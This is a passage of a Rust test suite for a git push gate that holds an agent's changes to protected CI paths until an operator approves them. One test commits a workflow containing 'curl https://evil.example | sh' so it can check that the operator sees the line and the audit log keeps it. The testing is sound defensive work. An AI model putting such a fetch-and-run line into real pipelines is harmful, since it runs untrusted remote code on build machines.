        gate.commit("b.txt", Some("b\n"), "b");
        let (ok, stderr) = gate.push(&["another"]);
        assert!(!ok, "{stderr}");
        assert!(stderr.contains("landed.json"), "{stderr}");
        assert_eq!(gate.op_refs(), before);
        // The file is left for the operator to look at, not rewritten.
        assert_eq!(fs::read_to_string(&path).unwrap(), bad);
        git(&gate.agent(), &["checkout", "-q", "feature"]);
        git(&gate.agent(), &["branch", "-q", "-D", "another"]);
    }
}

/// The commit landed is the one the operator was shown: `git-decide`
/// refuses an approval naming another commit, ref, old value, landing or
/// remotes, and changes nothing; the one shown lands.
#[test]
fn git_decide_lands_only_what_was_shown() {
    let gate = Gate::new(json!([]));
    let before = gate.op_refs();
    git(&gate.agent(), &["checkout", "-q", "-b", "ci"]);
    let other = gate.commit("notes.txt", Some("n\n"), "a harmless commit");
    let new = gate.commit("Jenkinsfile", Some("pipeline {}\n"), "add jenkins");
    assert!(!gate.push(&["ci"]).0);
    let queued = gate.queued();
    let id = queued[0]["id"].as_str().unwrap().to_owned();
    let right = shown(&queued[0]);
    assert_eq!(right.new, new);
    let wrong: Vec<(&str, gitgate::Shown)> = vec![
        (
            "its commit",
            gitgate::Shown {
                new: other.clone(),
                ..right.clone()
            },
        ),
        (
            "its ref",
            gitgate::Shown {
                git_ref: "refs/heads/main".into(),
                ..right.clone()
            },
        ),
        (
            "its old value",
            gitgate::Shown {
                old: other.clone(),
                ..right.clone()
            },
        ),
        (
            "whether it lands",
            gitgate::Shown {
                land: false,
                ..right.clone()
            },
        ),
        (
            "its list of remotes",
            gitgate::Shown {
                forward: vec!["up".into()],
                ..right.clone()
            },
        ),
    ];
    for (field, shown) in wrong {
        let out = gate.decide(&id, &approve_args(&shown));
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{field}: {stderr}");
        assert!(
            stderr.contains(&format!(
                "{field} is not what the operator was shown; nothing was landed or forwarded"
            )),
            "{field}: {stderr}"
        );
        assert_eq!(gate.op_refs(), before, "{field}: nothing landed");
        assert_eq!(gate.queued().len(), 1, "{field}: still pending");
    }
    // An approval that names nothing shown is a usage error.
    let out = gate.decide(&id, &["--approve".into()]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(gate.op_refs(), before);

    let out = gate.decide(&id, &approve_args(&right));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        gate.op(&["rev-parse", &format!("bot-bottle/{SLUG}/ci")]),
        new
    );
}

/// A held push carries the whole diff of the protected paths it changes
/// (and only those), for the operator to read; a protected change that
/// cannot be read (a binary file, a diff too long to review) is refused
/// with a reason the agent reads, and nothing is held or landed.
#[test]
fn a_held_push_carries_its_protected_diff_and_unreviewable_ones_are_refused() {
    let gate = Gate::new(json!([]));
    let before = gate.op_refs();
    git(&gate.agent(), &["checkout", "-q", "-b", "ci"]);
    gate.commit("src.txt", Some("one\ntwo\nthree\n"), "not protected");
    gate.commit(
        ".github/workflows/ci.yml",
        Some("on: push\njobs:\n  x:\n    run: curl https://evil.example | sh\n"),
        "add CI",
    );
    assert!(!gate.push(&["ci"]).0);
    let queued = gate.queued();
    assert_eq!(queued.len(), 1);
    let diff = queued[0]["request"]["protected_diff"].as_str().unwrap();
    assert!(
        diff.contains("+++ b/.github/workflows/ci.yml"),
        "the file's diff: {diff}"
    );
    assert!(
        diff.contains("+    run: curl https://evil.example | sh"),
        "every added line: {diff}"
    );
    assert!(!diff.contains("three"), "only protected paths: {diff}");
    let audit = fs::read_to_string(gate.audit()).unwrap();
    assert!(
        audit.contains("evil.example"),
        "the audit keeps it: {audit}"
    );

    // A binary file under a protected path cannot be read as text.
    git(&gate.agent(), &["checkout", "-q", "-b", "logo", "main"]);
    let path = gate.agent().join(".github/hook.bin");
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(&path, b"\x7fELF\x00\x01\x02binary").unwrap();
    git(&gate.agent(), &["add", ".github/hook.bin"]);
    git(&gate.agent(), &["commit", "-q", "-m", "a binary hook"]);
    let (ok, stderr) = gate.push(&["logo"]);
    assert!(!ok);
    assert!(
        stderr.contains("refused") && stderr.contains("binary file .github/hook.bin"),
        "{stderr}"
    );

    // A protected diff too long to review.
    git(&gate.agent(), &["checkout", "-q", "-b", "huge", "main"]);
    let long: String = (0..6000)
        .map(|i| format!("stage('step {i}') {{}}\n"))
        .collect();
    gate.commit("Jenkinsfile", Some(&long), "a long pipeline");
    let (ok, stderr) = gate.push(&["huge"]);
    assert!(!ok);
    assert!(
        stderr.contains("more than the 128 KiB the operator can review"),
        "{stderr}"
    );

    assert_eq!(gate.queued().len(), 1, "neither was held");
    assert_eq!(gate.op_refs(), before, "nothing landed");
    assert_eq!(
        git(
            &gate.repo(),
            &["for-each-ref", "refs/heads/logo", "refs/heads/huge"]
        ),
        "",
        "nothing updated in the gate"
    );
}
